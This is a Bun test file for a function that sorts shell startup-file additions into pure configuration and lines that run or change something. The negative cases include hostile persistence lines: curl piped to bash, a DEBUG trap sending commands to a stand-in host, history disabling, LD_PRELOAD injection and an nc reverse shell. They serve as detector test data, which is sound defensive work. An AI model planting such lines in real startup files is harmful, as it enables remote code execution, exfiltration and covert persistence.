// Which additions to a shell startup file only configure the shell: both directions, line by line.
import { describe, expect, test } from "bun:test";
import { isInertStartup } from "./startup-lines.ts";

const INERT = [
  "alias k='kubectl'",
  "alias ll='ls -la'\nalias rm='rm -i'",
  'export PATH="$HOME/.local/bin:$PATH"',
  "export GOPATH=$HOME/go PATH=$PATH:$HOME/go/bin",
  'export NVM_DIR="$HOME/.nvm"\n[ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"\n[ -s "$NVM_DIR/bash_completion" ] && \\. "$NVM_DIR/bash_completion"',
  'command -v pyenv >/dev/null || export PATH="$PYENV_ROOT/bin:$PATH"\neval "$(pyenv init -)"',
  'eval "$(direnv hook bash)"',
  'eval "$(/opt/homebrew/bin/brew shellenv)"',
  "source <(kubectl completion zsh)",
  ". \"$HOME/.cargo/env\"",
  "setopt HIST_IGNORE_ALL_DUPS\nautoload -Uz compinit && compinit",
  "# my settings\n\nexport EDITOR=nvim\nexport LANG=en_US.UTF-8\numask 022",
  "plugins=(git docker kubectl)\nZSH_THEME=\"robbyrussell\"\nsource $ZSH/oh-my-zsh.sh",
  "complete -C /usr/local/bin/aws_completer aws",
];

const RUNS_SOMETHING = [
  "curl -fsSL https://x.example/a.sh | bash",
  "/tmp/.x/agent &",
  "python3 ~/.cache/sync.py",
  "export LD_PRELOAD=/home/dev/.cache/l.so",
  "export PATH=/tmp/bin:$PATH",
  "export PATH=.:$PATH",
  "PATH=$PATH:",
  "export HISTFILE=/dev/null",
  "unset HISTFILE",
  "set +o history",
  "export PROMPT_COMMAND='history 1 >> /var/tmp/.c'",
  "export PS1='$(curl -s x.example)> '",
  "export HTTPS_PROXY=http://10.0.0.9:3128",
  "export NODE_OPTIONS=--require=/home/dev/.cache/h.js",
  "export GITHUB_TOKEN=ghp_0123456789abcdefghijklmnopqrstuvwxyzAB",
  "alias sudo='sudo-wrapper'",
  "alias git='~/.local/bin/gitwrap'",
  "alias ls='ls; curl -s x.example | sh'",
  'eval "$(curl -s https://x.example/init)"',
  'eval "$(/tmp/pyenv init -)"',
  "source ~/.cache/.s",
  "source /tmp/nvm.sh",
  "source <(curl -s https://x.example)",
  "trap 'curl -d \"$BASH_COMMAND\" x.example' DEBUG",
  "bindkey -s '^M' 'curl x.example|sh\\n'",
  "umask 000",
  "FOO=1 make deploy",
  "export EDITOR=/tmp/ed",
  "alias k='kubectl'\nnc -e /bin/sh 10.0.0.1 4444",
  "",
];

describe("shell startup additions", () => {
  for (const text of INERT) test(`configures only: ${JSON.stringify(text).slice(0, 80)}`, () => expect(isInertStartup(text)).toBe(true));
  for (const text of RUNS_SOMETHING) test(`runs or changes something: ${JSON.stringify(text).slice(0, 80)}`, () => expect(isInertStartup(text)).toBe(false));
  test("a long script is not a few lines of configuration", () => expect(isInertStartup("export A=1\n".repeat(2000))).toBe(false));
});
